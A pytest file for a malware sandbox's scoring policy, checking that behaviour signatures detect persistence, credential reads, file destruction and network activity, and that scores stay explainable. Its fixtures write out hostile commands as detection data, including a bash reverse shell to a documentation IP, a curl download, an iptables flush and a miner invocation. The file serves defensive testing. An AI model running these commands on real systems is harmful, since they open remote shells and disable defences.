"""What counts, how much, and that every point can be explained."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.results.domain.inputs import Behaviour, YaraMatch
from services.results.domain.report import Evidence
from services.results.policy import SIGNATURES, Matched, Observed, Signature, judge

RESULT = "res_" + "0" * 32
FIRST = {"pid": 1, "argv": ["/bin/sh", "/home/sample/a.sh"], "exe": "/bin/dash"}


def seen(*, processes: tuple[list[str], ...] = (), **parts: Any) -> Behaviour:
    """What the tracer saw: the sample's first process, its children, and the given lists."""
    children = [
        {"pid": pid, "ppid": 1, "argv": argv, "exe": f"/usr/bin/{argv[0]}"} for pid, argv in enumerate(processes, 2)
    ]
    return Behaviour.model_validate({"processes": [FIRST, *children], **parts})


def written(*paths: str, action: str = "written") -> Behaviour:
    """The sample wrote these files."""
    return seen(files=[{"path": path, "actions": [action]} for path in paths])


def reached(*attempts: tuple[str, int]) -> Behaviour:
    """The sample tried these addresses."""
    return seen(network=[{"address": address, "port": port, "protocol": "tcp"} for address, port in attempts])


EXAMPLES: dict[str, Behaviour] = {
    "preload_hijack": written("/etc/ld.so.preload"),
    "cron_persistence": written("/etc/cron.d/updates", action="created"),
    "crontab_command": seen(processes=(["crontab", "-"],)),
    "systemd_persistence": written("/home/sample/.config/systemd/user/a.service"),
    "shell_profile_persistence": written("/home/sample/.bashrc"),
    "boot_script_persistence": written("/etc/rc.local"),
    "autostart_persistence": written("/home/sample/.config/autostart/a.desktop"),
    "ssh_key_persistence": written("/home/sample/.ssh/authorized_keys"),
    "accounts_changed": written("/etc/passwd"),
    "password_hashes_read": written("/etc/shadow", action="read"),
    "keys_and_tokens_read": written("/home/sample/.ssh/id_ed25519", action="read"),
    "many_files_rewritten": written(*(f"/home/sample/docs/{n}.odt" for n in range(50))),
    "many_files_deleted": written(*(f"/home/sample/docs/{n}.odt" for n in range(30)), action="deleted"),
    "deletes_itself": written("/home/sample/a.sh", action="deleted"),
    "traces_removed": written("/home/sample/.bash_history", action="deleted"),
    "kernel_module": seen(processes=(["insmod", "a.ko"],)),
    "defences_impaired": seen(processes=(["iptables", "-F"],)),
    "hidden_program": written("/tmp/.x11", action="created"),
    "runs_what_it_wrote": seen(
        processes=(["payload"],), files=[{"path": "/usr/bin/payload", "actions": ["created", "written"]}]
    ),
    "traces_another_process": seen(timeline=[{"event": "ptrace", "detail": "PTRACE_ATTACH 1"}]),
    "debugger_check": seen(timeline=[{"event": "ptrace", "detail": "PTRACE_TRACEME = 0"}]),
    "program_in_memory": seen(timeline=[{"event": "memfd_create", "detail": '"x", MFD_CLOEXEC = 3'}]),
    "leaves_its_boundaries": seen(timeline=[{"event": "unshare", "detail": "CLONE_NEWUSER = 0"}]),
    "download_tool": seen(processes=(["curl", "http://192.0.2.1/a"],)),
    "reverse_shell": seen(processes=(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1"],)),
    "miner": seen(processes=(["xmrig", "-o", "pool"],)),
    "network_attempt": reached(("192.0.2.1", 80)),
    "unusual_port": reached(("192.0.2.1", 6667)),
    "network_scan": reached(*((f"192.0.2.{n}", 22) for n in range(20))),
    "dns_question": seen(network=[{"address": "192.0.2.53", "port": 53, "query": "c2.example"}]),
    "spawns_shell": seen(processes=(["sh", "-c", "true"],)),
    "system_discovery": seen(processes=(["uname", "-a"],)),
    "virtual_machine_check": written("/sys/class/dmi/id/product_name", action="read"),
    "many_processes": seen(processes=tuple(["true"] for _ in range(200))),
}
QUIET = seen(
    processes=(["ls", "-l"], ["cat", "notes.txt"]),
    files=[
        {"path": "/home/sample/notes.txt", "actions": ["created", "written"]},
        {"path": "/tmp/scratch", "actions": ["created", "deleted"]},
        {"path": "/etc/passwd", "actions": ["read"]},
    ],
    network=[{"address": "127.0.0.1", "port": 6667}, {"family": "unix", "address": "/run/nscd/socket"}],
)


def observed(behaviour: Behaviour) -> Observed:
    """The behaviour as a result."""
    return Observed(behaviour, "behaviour", RESULT)


def matched(severity: int, rule: str = "rule") -> Matched:
    """A rule that matched."""
    return Matched(
        YaraMatch(rule=rule, severity=severity, attack=["T1105", "nonsense"]),
        Evidence(plugin="yara", result_id=RESULT, pointer="/matches/0"),
    )


@pytest.mark.parametrize("signature", SIGNATURES, ids=lambda signature: signature.name)
def test_each_signature_finds_what_it_is_for_and_leaves_a_quiet_program_alone(signature: Signature) -> None:
    """Every row of the table has an example that it finds, and none of them finds anything in a quiet run."""
    assert signature.condition.find(EXAMPLES[signature.name])
    assert signature.condition.find(QUIET) == ()


def test_a_fork_of_a_script_is_not_a_shell_that_it_started() -> None:
    """A process that only copies its parent's program runs nothing new."""
    fork = {**FIRST, "pid": 2, "ppid": 1}
    again = {"pid": 3, "ppid": 2, "argv": ["sh", "-c", "true"], "exe": "/bin/sh"}
    spawns = next(signature for signature in SIGNATURES if signature.name == "spawns_shell")
    assert spawns.condition.find(Behaviour.model_validate({"processes": [FIRST, fork]})) == ()
    assert spawns.condition.find(Behaviour.model_validate({"processes": [FIRST, fork, again]})) == ("/processes/2",)


def test_a_system_call_that_loads_a_module_counts_like_the_command() -> None:
    """The condition asks both questions."""
    loaded = seen(timeline=[{"event": "finit_module", "detail": "3 = -1 EPERM"}])
    assert judge([], observed(loaded), has_run=True).reasons[0].name == "kernel_module"


def test_signatures_have_names_of_their_own_and_an_example_each() -> None:
    """A name is used once, so that a reason is never ambiguous."""
    names = [signature.name for signature in SIGNATURES]
    assert len(set(names)) == len(names)
    assert set(names) == set(EXAMPLES)


def test_a_rule_of_full_severity_makes_a_sample_malicious() -> None:
    """EICAR needs no machine to be called what it is."""
    judgement = judge([matched(100, "eicar")], None, has_run=False)
    assert (judgement.verdict, judgement.score) == ("malicious", 100)
    assert judgement.reasons[0].techniques == ("T1105",)


def test_nothing_run_and_nothing_found_is_unknown() -> None:
    """Silence is not innocence."""
    assert judge([], None, has_run=False).verdict == "unknown"
    assert judge([], observed(Behaviour()), has_run=False).verdict == "unknown"


def test_a_faint_hint_without_a_run_is_still_unknown() -> None:
    """A packed file that was never seen running is not called benign."""
    assert judge([matched(10)], None, has_run=False).verdict == "unknown"


def test_a_quiet_run_is_benign_and_a_persistent_one_is_not() -> None:
    """The verdict follows what was seen."""
    assert judge([], observed(QUIET), has_run=True).verdict == "benign"
    assert judge([], observed(written("/etc/cron.d/x")), has_run=True).verdict == "suspicious"
    both = written("/etc/cron.d/x", "/etc/ld.so.preload")
    assert judge([], observed(both), has_run=True).verdict == "malicious"


severities = st.lists(st.integers(0, 100), max_size=12)
examples = st.sampled_from([QUIET, *EXAMPLES.values()])


@given(severities, examples)
def test_the_points_of_all_reasons_add_up_to_the_score(found: list[int], behaviour: Behaviour) -> None:
    """Every point has a reason, every reason its evidence, and the score ends at 100."""
    judgement = judge([matched(one) for one in found], observed(behaviour), has_run=True)
    assert sum(reason.points for reason in judgement.reasons) == judgement.score <= 100
    assert all(reason.points <= reason.weight for reason in judgement.reasons)
    assert all(reason.evidence.pointer.startswith("/") for reason in judgement.reasons)


@given(severities, st.integers(0, 100), examples)
def test_more_evidence_never_makes_a_sample_look_better(found: list[int], one: int, behaviour: Behaviour) -> None:
    """The score grows with the evidence, or stays."""
    before = judge([matched(severity) for severity in found], observed(behaviour), has_run=True)
    after = judge([matched(severity) for severity in [*found, one]], observed(behaviour), has_run=True)
    assert after.score >= before.score
